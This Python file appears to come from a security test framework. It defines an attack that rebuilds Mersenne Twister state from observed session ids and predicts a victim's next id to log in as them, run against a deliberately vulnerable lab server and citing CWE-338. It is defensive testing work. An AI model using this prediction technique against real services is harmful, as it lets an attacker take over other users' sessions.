"""The next identifier, computed from those before: whoever can do that logs in as whoever comes next."""

from loadtests.attacks.attack import Attack
from loadtests.attacks.identifiers.credential_text import bytes_of
from loadtests.attacks.identifiers.mersenne import WORDS, clone, words_of
from loadtests.attacks.laboratory.condition import Control
from loadtests.attacks.laboratory.jws import encoded
from loadtests.attacks.laboratory.lab import AttackLab, AttackResult
from loadtests.attacks.laboratory.presented import Presented
from loadtests.clients.client import Headers

_AHEAD = 8
"""Identifiers that the attacker predicts: others may log in between."""
_LIFETIME_S = 60


class PredictableIdentifier(Attack):
    """Collect ids, rebuild the state of a Mersenne Twister from them, and present what comes next.

    `random` of Python, `rand` of PHP and `Math.random` of browsers are such generators, and their ids look
    like chance to every statistical test. The attacker logs in some times, then the victim once; what was
    predicted is tried as the victim's id.
    """

    row = "K3"
    name = "predictable identifier"
    question = "Can the victim's next id be computed from ids that were issued before it?"
    sources = ("OWASP ASVS 5.0 11.5.1", "RFC 6749 section 10.10", "CWE-338")
    control = Control("servers.vulnerable.logins.session_ids:VulnerableMersenneIds")

    def run(self, lab: AttackLab) -> AttackResult:
        attacker = lab.logged_in()
        lab.check_before(attacker)
        presented = Presented.of(attacker.credential)
        size = len(bytes_of(presented.text))
        if "." in presented.text or size % 4:
            return lab.nothing_there("its credential is signed, and no id that stands for itself")
        needed = WORDS // (size // 4)
        issued = lab.target.server.seed(0, needed, _LIFETIME_S)
        words = [word for each in issued for word in words_of(bytes_of(Presented.of(each.headers).text))]
        source = clone(words[-WORDS:])
        victim = lab.logged_in()
        for number in range(_AHEAD):
            predicted = presented.alone(encoded(source.randbytes(size)))
            if self._is_the_victims(lab, victim.username, predicted) and lab.has_effect(
                "an order with the predicted id", victim, predicted
            ):
                lab.figure("ids between the last that was seen and the victim's", number)
                return lab.succeeded(f"the victim's id was computed from {needed} ids before it")
        lab.check_after(attacker)
        return lab.rejected(f"none of {_AHEAD} ids computed from the {needed} before was the victim's")

    @staticmethod
    def _is_the_victims(lab: AttackLab, username: str, predicted: Headers) -> bool:
        me = lab.send("a predicted id", "GET", "/me", predicted).json()
        return isinstance(me, dict) and me.get("sub") == username
